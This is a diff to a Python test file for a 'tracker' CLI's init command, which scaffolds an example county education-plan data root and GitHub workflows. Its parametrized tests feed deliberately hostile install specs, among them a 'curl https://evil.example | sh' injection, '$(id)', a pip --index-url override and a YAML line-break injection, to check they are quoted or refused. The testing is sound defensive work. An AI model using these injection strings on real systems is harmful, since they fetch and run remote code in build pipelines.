@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 import tomllib
 from pathlib import Path
 
+import pytest
 import yaml
 from report_support import TESTS, pinned_terminal, run
 
 from tracker.cli import ExitCode
-from tracker.scaffold import DEFAULT_INSTALL, FILES, template
+from tracker.scaffold import DEFAULT_INSTALL, files, template, this_year
 
 __all__ = ["pinned_terminal"]
 
@@ -17,28 +20,86 @@ REPO = TESTS.parent
 TEMPLATES = REPO / "tracker" / "templates"
 
 
-def test_init_creates_a_data_root_that_works(tmp_path: Path) -> None:
+def test_init_creates_a_data_root_that_passes_its_own_gate(tmp_path: Path) -> None:
+    """No --as-of anywhere: the root init makes today passes check and validate --strict today."""
     root = tmp_path / "new"
     result = run("init", str(root), "--install", "git+https://example.org/tracker@v0.1.0")
     assert result.exit_code == ExitCode.OK, result.stderr
+    year = this_year()
     created = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
-    assert created == sorted(target for _, target in FILES)
-    assert (root / "actuals" / "actuals.csv").read_text(encoding="utf-8") == (
-        "region,indicator,year,value,qualifier,source,quote,note\n"
-    )
+    assert created == sorted(target for _, target in files(year))
+    assert f"plans/example-county-{year}-{year + 4}.yaml" in created
+    header, example, end = (root / "actuals" / "actuals.csv").read_text(encoding="utf-8").split("\n")
+    assert header == "region,indicator,year,value,qualifier,source,quote,note" and end == ""
+    assert example.startswith(f"示例县,学前教育毛入园率,{year - 1},90,")
     workflow = yaml.safe_load((root / ".github/workflows/tracker-check.yml").read_text(encoding="utf-8"))
     steps = workflow["jobs"]["check"]["steps"]
-    assert {"run": 'python -m pip install "git+https://example.org/tracker@v0.1.0"', "name": "Install tracker"} in [
+    assert {"run": "python -m pip install git+https://example.org/tracker@v0.1.0", "name": "Install tracker"} in [
         {k: v for k, v in step.items() if k in ("run", "name")} for step in steps
     ]
-    # The example plan loads and is judged: no figures yet, so nothing fails.
-    status = run("status", "--data", str(root), "--as-of", "2023", "--json")
-    assert status.exit_code == ExitCode.OK, status.stderr
-    check = run("check", "--data", str(root), "--as-of", "2023")
-    assert check.exit_code == ExitCode.OK
+    check = run("check", "--data", str(root))
+    assert check.exit_code == ExitCode.OK, check.stdout + check.stderr
     assert check.stdout == (
-        "tracker check: OK - 0 of 4 targets failed as of 2023; policy: missed; off_track, regressing if binding\n"
+        f"tracker check: OK - 0 of 4 targets failed as of {year}; policy: missed; off_track, regressing if binding\n"
     )
+    assert check.stderr == ""  # no warning either
+    validate = run("validate", "--data", str(root), "--strict")
+    assert validate.exit_code == ExitCode.OK, validate.stdout
+    assert validate.stdout == "1 plan, 4 targets, 1 actual row: 0 errors, 0 warnings\n"
+    status = run("status", "--data", str(root), "--json")
+    assert status.exit_code == ExitCode.OK, status.stderr
+    statuses = {t["target"]: t["status"] for t in json.loads(status.stdout)["targets"]}
+    assert statuses == {
+        "preschool-enrolment": "no_data",  # the example row is the baseline, read from the CSV
+        "retention": "no_data",
+        "new-places": "no_data",
+        "quality-balance": "pending",
+    }
+
+
+def test_example_plan_years_follow_the_year_init_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Made in 2031: a 2031-2035 plan with a 2030 baseline, clean until its milestone is overdue in 2036."""
+    monkeypatch.setattr("tracker.scaffold.this_year", lambda: 2031)
+    root = tmp_path / "new"
+    assert run("init", str(root)).exit_code == ExitCode.OK
+    plan = yaml.safe_load((root / "plans" / "example-county-2031-2035.yaml").read_text(encoding="utf-8"))
+    assert plan["id"] == "example-county-2031-2035" and plan["period"] == {"start": 2031, "end": 2035}
+    assert plan["targets"][0]["baseline"] == {"year": 2030}
+    assert plan["targets"][3]["by"] == 2035 and plan["targets"][3]["quote"].startswith("2035年")
+    for as_of in ("2031", "2035"):
+        assert run("check", "--data", str(root), "--as-of", as_of).exit_code == ExitCode.OK
+    late = run("check", "--data", str(root), "--as-of", "2036")
+    assert late.exit_code == ExitCode.TARGETS_FAILED
+    assert "example-county-2031-2035/quality-balance: missed - not done by 2035" in late.stdout
+
+
+@pytest.mark.parametrize(
+    "spec",
+    ["tracker>=0.1", 'x" && curl https://evil.example | sh #', "git+https://x/y.git#egg=tracker", "a: b", "它 $(id)"],
+)
+def test_install_spec_is_one_shell_word_in_valid_yaml(tmp_path: Path, spec: str) -> None:
+    root = tmp_path / "new"
+    assert run("init", str(root), "--install", spec).exit_code == ExitCode.OK
+    for name, job in (("tracker-check.yml", "check"), ("tracker-report.yml", "report")):
+        workflow = yaml.safe_load((root / ".github" / "workflows" / name).read_text(encoding="utf-8"))
+        install = next(step["run"] for step in workflow["jobs"][job]["steps"] if step.get("name") == "Install tracker")
+        assert shlex.split(install) == ["python", "-m", "pip", "install", spec]
+
+
+@pytest.mark.parametrize(
+    ("spec", "reason"),
+    [
+        ("--index-url=https://evil.example", "would be read as a pip option"),
+        ("tracker\nrun: evil", "line break or control character"),
+        ("  ", "needs a package spec"),
+    ],
+)
+def test_unusable_install_spec_is_refused(tmp_path: Path, spec: str, reason: str) -> None:
+    root = tmp_path / "new"
+    result = run("init", str(root), "--install", spec)
+    assert result.exit_code == ExitCode.BAD_INPUT
+    assert result.stderr.startswith("--install: TRK405 ") and reason in result.stderr
+    assert not root.exists()
 
 
 def test_init_without_install_says_to_edit_the_workflows(tmp_path: Path) -> None:
